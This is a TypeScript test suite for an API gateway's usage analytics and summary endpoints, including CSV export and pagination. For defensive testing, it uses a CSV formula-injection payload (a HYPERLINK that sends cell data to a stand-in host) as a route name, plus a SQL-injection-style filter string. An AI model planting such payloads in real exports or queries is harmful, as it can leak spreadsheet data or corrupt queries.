import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { after, before, describe, it } from 'node:test';
import { countedRequest } from '../../data/usage/analytics.fixture.ts';
import { day, hour, minute, startTestNode, type TestNode } from '../usage/analytics.fixture.ts';
import { call, startTestAdmin, type TestAdmin, type TestAnswer } from './admin.fixture.ts';
import type { RunningListener } from './contract.ts';
import { startAdmin } from './start-admin.ts';

const noon = Date.UTC(2026, 5, 1, 12);
const hostile = '=HYPERLINK("http://x/?"&A1)';

interface Shown {
  readonly start: string;
  readonly route: { readonly id: string; readonly name: string | null } | null;
  readonly consumer: { readonly id: string; readonly username: string | null } | null;
  readonly version: string | null;
  readonly status: number | string;
  readonly requests: number;
  readonly errors: Readonly<Record<string, number>>;
  readonly bytes_in: number;
  readonly latency: Readonly<Record<string, number>> | null;
  readonly upstream_latency: Readonly<Record<string, number>> | null;
}

let admin: TestAdmin;
let listener: RunningListener;
let node: TestNode;
const routes = {
  users: { id: randomUUID(), name: 'users' },
  // No longer there, as far as the store knows; with a name that a spreadsheet would run.
  gone: { id: randomUUID(), name: hostile },
};
const ada = { id: randomUUID(), username: 'ada', customId: 'a-1' };

before(async () => {
  admin = await startTestAdmin();
  node = startTestNode({ store: admin.store, now: noon });
  listener = await startAdmin({ ...admin.deps, analytics: node.analytics }, admin.options);
  await admin.store.write((writer) =>
    writer.insert('consumers', {
      id: ada.id,
      created_at: 0,
      username: ada.username,
      custom_id: ada.customId,
      tags: null,
    }),
  );
  for (let at = 0; at < 30; at++) {
    node.count(0, (ended) => countedRequest({ ended, route: routes.users, took: 20, upstream: 10 }), 3);
    node.count(0, (ended) => countedRequest({ ended, route: routes.users, consumer: ada, apiVersion: 'v1' }), 2);
    node.count(0, (ended) => countedRequest({ ended, route: routes.users, consumer: ada, status: 404 }));
    if (at % 10 === 0) node.count(0, (ended) => countedRequest({ ended, route: routes.gone, status: 503 }));
    if (at === 15) node.count(0, (ended) => countedRequest({ ended, status: 404 }));
    node.now += minute;
    await node.analytics.tick();
  }
  // Not written yet.
  node.count(0, (ended) => countedRequest({ ended, route: routes.users }));
});
after(async () => {
  await listener.close(false);
  await admin[Symbol.asyncDispose]();
});

const total = 30 * 6 + 3 + 1 + 1;

function get(path: string, headers?: Readonly<Record<string, string>>): Promise<TestAnswer> {
  return call(`http://127.0.0.1:${listener.addresses[0]?.port}`, 'GET', path, undefined, headers);
}

async function rowsOf(query: string): Promise<readonly Shown[]> {
  const answer = await get(`/analytics/usage?${query}`);
  assert.equal(answer.status, 200, answer.text);
  return answer.json['data'] as readonly Shown[];
}

function sum(rows: readonly Shown[]): number {
  return rows.reduce((all, { requests }) => all + requests, 0);
}

async function refused(query: string, option: string, pattern: RegExp, path = '/analytics/usage'): Promise<void> {
  const { status, json } = await get(`${path}?${query}`);
  const message = (json['options'] as Record<string, string> | undefined)?.[option] ?? '';
  assert.deepEqual([status, json['code'], json['name']], [400, 11, 'invalid options'], query);
  assert.match(message, pattern);
}

describe('GET /analytics/usage', () => {
  it('reports all counts until now, the current minute included', async () => {
    const rows = await rowsOf('size=1000');
    assert.equal(sum(rows), total);
    const [first] = rows.filter(({ route, consumer }) => route?.name === 'users' && consumer === null);
    assert.equal(first?.start, '2026-06-01T12:00:00Z');
    assert.deepEqual([first?.requests, first?.status, first?.version, first?.bytes_in], [3, 200, null, 30]);
    assert.ok(Math.abs((first?.latency?.['p50'] ?? 0) - 20) < 2);
    assert.ok(Math.abs((first?.upstream_latency?.['max'] ?? 0) - 10) < 1);
    assert.equal(rows.at(-1)?.start, '2026-06-01T12:30:00Z');
  });

  it('groups by the requested fields', async () => {
    const statuses = await rowsOf('group_by=status');
    assert.deepEqual(
      statuses.map(({ status, requests, errors }) => [status, requests, errors]),
      [
        [200, 151, { '4xx': 0, '5xx': 0 }],
        [404, 31, { '4xx': 31, '5xx': 0 }],
        [503, 3, { '4xx': 0, '5xx': 3 }],
      ],
    );
    const hours = await rowsOf('group_by=hour,consumer');
    assert.deepEqual(
      hours.map(({ start, consumer, requests }) => [start, consumer?.username ?? null, requests]).sort(),
      [
        ['2026-06-01T12:00:00Z', 'ada', 90],
        ['2026-06-01T12:00:00Z', null, 95],
      ].sort(),
    );
    const [all, ...others] = await rowsOf('group_by=');
    assert.deepEqual([all?.requests, others.length], [total, 0]);
    const [versions] = await rowsOf('group_by=version&version=v1');
    assert.deepEqual([versions?.version, versions?.requests], ['v1', 60]);
    const [nodes] = await rowsOf('group_by=node');
    assert.equal((nodes as unknown as { node: string }).node, 'n1');
  });

  it('gives the same sums from minutes, hours and days', async () => {
    const range = 'from=2026-06-01&to=2026-06-02';
    for (const resolution of ['minute', 'hour', 'day']) {
      assert.equal(sum(await rowsOf(`${range}&resolution=${resolution}&size=1000`)), total, resolution);
      assert.equal(sum(await rowsOf(`${range}&group_by=day&resolution=${resolution}`)), total, resolution);
    }
  });

  it('filters by ids and names, also of what is not there any more', async () => {
    const count = async (filter: string): Promise<number> => sum(await rowsOf(`${filter}&group_by=`));
    assert.equal(await count('route=users'), 181);
    assert.equal(await count(`route=${routes.users.id}`), 181);
    assert.equal(await count(`route=${encodeURIComponent(hostile)}`), 3);
    assert.equal(await count(`route=users&route=${routes.gone.id}`), 184);
    assert.equal(await count('route='), 1);
    assert.equal(await count('route=nobody'), 0);
    assert.equal(await count('consumer=ada'), 90);
    assert.equal(await count('consumer=a-1'), 90);
    assert.equal(await count('consumer='), 95);
    assert.equal(await count('status=4xx'), 31);
    assert.equal(await count('status=404,5xx'), 34);
    assert.equal(await count('version='), 125);
    assert.equal(await count('node=n1'), total);
    assert.equal(await count('node=n2'), 0);
    assert.equal(await count("route=%00%27;--&consumer=a'b"), 0);
  });

  it('takes times in every zone, and seconds; what it covers is in the answer', async () => {
    const ranges = [
      'from=2026-06-01T12:10:00Z&to=2026-06-01T12:20:00Z',
      'from=2026-06-01T14:10:00%2B02:00&to=2026-06-01T07:20:00-05:00',
      `from=${noon / 1000 + 600}&to=${noon / 1000 + 1200}`,
      'from=2026-06-01T12:10:01Z&to=2026-06-01T12:19:01Z',
    ];
    for (const range of ranges) {
      const { json } = await get(`/analytics/usage?${range}&group_by=`);
      assert.deepEqual(
        [json['from'], json['to'], json['resolution'], sum(json['data'] as Shown[])],
        ['2026-06-01T12:10:00Z', '2026-06-01T12:20:00Z', 'minute', 62],
      );
    }
  });

  it('chooses a resolution that suits the range and is still kept', async () => {
    const chosen = async (from: number): Promise<unknown> =>
      (await get(`/analytics/usage?from=${(noon - from) / 1000}&to=${(noon + hour) / 1000}`)).json['resolution'];
    assert.equal(await chosen(hour), 'minute');
    assert.equal(await chosen(day), 'hour');
    assert.equal(await chosen(20 * day), 'day');
    const old = await get(`/analytics/usage?from=${(noon - 10 * day) / 1000}&to=${(noon - 10 * day + hour) / 1000}`);
    assert.equal(old.json['resolution'], 'hour');
  });

  it('walks all rows once in each of the four styles', async () => {
    const all = await rowsOf('size=1000');
    const walk = async (first: string): Promise<Shown[]> => {
      const walked: Shown[] = [];
      let next: string | null = first;
      while (next !== null) {
        const { status, json, text }: TestAnswer = await get(next);
        assert.equal(status, 200, text);
        walked.push(...(json['data'] as Shown[]));
        next = json['next'] as string | null;
      }
      return walked;
    };
    for (const style of ['size=7', 'limit=7', 'page=1&size=7']) {
      assert.deepEqual(await walk(`/analytics/usage?${style}`), all, style);
    }
    assert.deepEqual(await walk('/analytics/usage?before=2026-06-02&limit=7'), all.toReversed());
    const grouped = await rowsOf('group_by=route,status,consumer&size=1000');
    assert.deepEqual(await walk('/analytics/usage?group_by=route,status,consumer&size=2'), grouped);
    assert.deepEqual(
      await walk('/analytics/usage?limit=7&before=2026-06-01T12:10:00Z'),
      all.toReversed().filter(({ start }) => start < '2026-06-01T12:10'),
    );
  });

  it('keeps to its range from page to page, whatever the time is', async () => {
    const first = await get('/analytics/usage?size=5');
    const link = String(first.json['next']);
    assert.match(link, /from=2026-06-01T11%3A30%3A00Z&to=2026-06-01T12%3A31%3A00Z&resolution=minute/);
  });

  it('reads coarser rows when there are too many, unless a resolution is requested', async () => {
    const small = startTestNode({ store: admin.store, now: noon + 31 * minute, node: 'n3', maxRows: 50 });
    const other = await startAdmin({ ...admin.deps, analytics: small.analytics }, admin.options);
    try {
      const ask = (path: string) => call(`http://127.0.0.1:${other.addresses[0]?.port}`, 'GET', `/analytics/${path}`);
      for (const path of ['usage?group_by=', 'summary?', 'usage?group_by=&format=csv']) {
        const open = await ask(path);
        assert.equal(open.status, 200, open.text);
        if (!path.includes('csv')) assert.equal(open.json['resolution'], 'hour');
        assert.equal((await ask(`${path}&resolution=minute`)).status, 400);
      }
      // By time a page is never too much.
      assert.equal((await ask('usage?group_by=minute&size=5')).status, 200);
    } finally {
      await other.close(false);
    }
  });

  it('refuses what it does not understand, with the name of the parameter', async () => {
    await refused('groupby=route', 'groupby', /unknown/);
    await refused('group_by=rout', 'group_by', /'rout' is none of/);
    await refused('group_by=hour,day', 'group_by', /more than one/);
    await refused('group_by=route,route', 'group_by', /once/);
    await refused('from=yesterday', 'from', /ISO 8601/);
    await refused('from=2026-02-31', 'from', /ISO 8601/);
    await refused('from=1780315200000000', 'from', /ISO 8601/);
    await refused('from=-5', 'from', /ISO 8601/);
    await refused('from=2026-06-02&to=2026-06-01', 'from', /before to/);
    await refused('from=2026-06-01&from=2026-06-02', 'from', /once/);
    await refused('resolution=second', 'resolution', /one of minute, hour, day/);
    await refused('resolution=day&group_by=minute', 'resolution', /coarser/);
    await refused('from=2025-05-01&resolution=minute', 'resolution', /more than 10080 minutes/);
    await refused('from=2025-05-01&group_by=minute', 'resolution', /more than 10080 minutes/);
    await refused('status=999x', 'status', /neither/);
    await refused('status=', 'status', /neither/);
    await refused('format=xml', 'format', /json or csv/);
    await refused(Array.from({ length: 51 }, (_, at) => `route=${at}`).join('&'), 'route', /50/);
    assert.equal((await get('/analytics/usage?size=0')).status, 400);
    assert.equal((await get('/analytics/usage?offset=x')).status, 400);
    await refused(`before=${randomUUID()}`, 'before', /no item/);
  });
});

describe('usage as CSV', () => {
  it('has all rows, and no cell that a spreadsheet would run', async () => {
    const answer = await get('/analytics/usage?format=csv');
    assert.match(String(answer.headers['content-type']), /^text\/csv/);
    const lines = answer.text.split('\r\n');
    assert.equal(lines.pop(), '');
    assert.equal(lines.length - 1, (await rowsOf('size=1000')).length);
    assert.match(
      lines[0] ?? '',
      /^start,route_id,route,service_id,service,consumer_id,consumer,version,status,requests,/,
    );
    const [gone] = lines.filter((line) => line.includes(routes.gone.id));
    assert.ok(gone?.includes(`"'=HYPERLINK(""http://x/?""&A1)"`), gone);
    const counts = lines.slice(1).map((line) => Number(line.replace(/"(?:[^"]|"")*"/g, '').split(',')[9]));
    assert.equal(
      counts.reduce((all, one) => all + one, 0),
      total,
    );
  });

  it('is what a client gets that accepts it rather than JSON', async () => {
    const typeFor = async (accept: string): Promise<string> =>
      String((await get('/analytics/usage?group_by=', { accept })).headers['content-type']).split(';')[0] ?? '';
    assert.equal(await typeFor('text/csv'), 'text/csv');
    assert.equal(await typeFor('text/csv;q=0.9, application/json;q=0.5'), 'text/csv');
    assert.equal(await typeFor('application/json, text/csv;q=0.5'), 'application/json');
    assert.equal(await typeFor('*/*'), 'application/json');
  });

  it('comes in pages when they are requested', async () => {
    const first = await get('/analytics/usage?format=csv&size=3');
    assert.equal(first.text.trim().split('\r\n').length, 4);
    const link = /^<(\/analytics\/usage\?[^>]*format=csv[^>]*)>; rel="next"$/.exec(String(first.headers['link']))?.[1];
    const second = await get(link ?? '');
    assert.equal(second.text.trim().split('\r\n').length, 4);
    assert.notEqual(second.text, first.text);
  });
});

describe('GET /analytics/summary', () => {
  it('reports totals, their timeline and the most used entities', async () => {
    const { status, json } = await get('/analytics/summary?top=2');
    assert.equal(status, 200);
    const lists = json as unknown as Record<string, readonly Shown[]>;
    assert.equal((json['totals'] as Shown).requests, total);
    assert.equal(sum(lists['timeline'] ?? []), total);
    assert.equal(lists['timeline']?.length, 31);
    assert.deepEqual(
      lists['routes']?.map(({ route, requests }) => [route?.name, requests]),
      [
        ['users', 181],
        [hostile, 3],
      ],
    );
    assert.deepEqual(
      lists['statuses']?.map(({ requests }) => requests),
      [151, 31],
    );
    assert.equal(json['dropped'], 0);
    const { components } = (await get('/openapi.json')).json as { components: { schemas: Record<string, object> } };
    const described = components.schemas['usage_summary'] as { required: readonly string[] };
    assert.deepEqual(Object.keys(json), described.required);

    const errors = await get('/analytics/summary?sort=errors&top=1&route=users');
    assert.equal((errors.json['statuses'] as Shown[])[0]?.status, 404);
    const nothing = await get('/analytics/summary?route=nobody');
    assert.equal((nothing.json['totals'] as Shown).requests, 0);
    await refused('top=0', 'top', /between 1 and 100/, '/analytics/summary');
    await refused('sort=name', 'sort', /one of requests/, '/analytics/summary');
    await refused('group_by=route', 'group_by', /unknown/, '/analytics/summary');
  });

  it('is not there while usage is not counted', async () => {
    const answer = await admin.call('GET', '/analytics/summary');
    assert.equal(answer.status, 404);
    assert.match(String(answer.json['message']), /setting analytics is off/);
  });
});
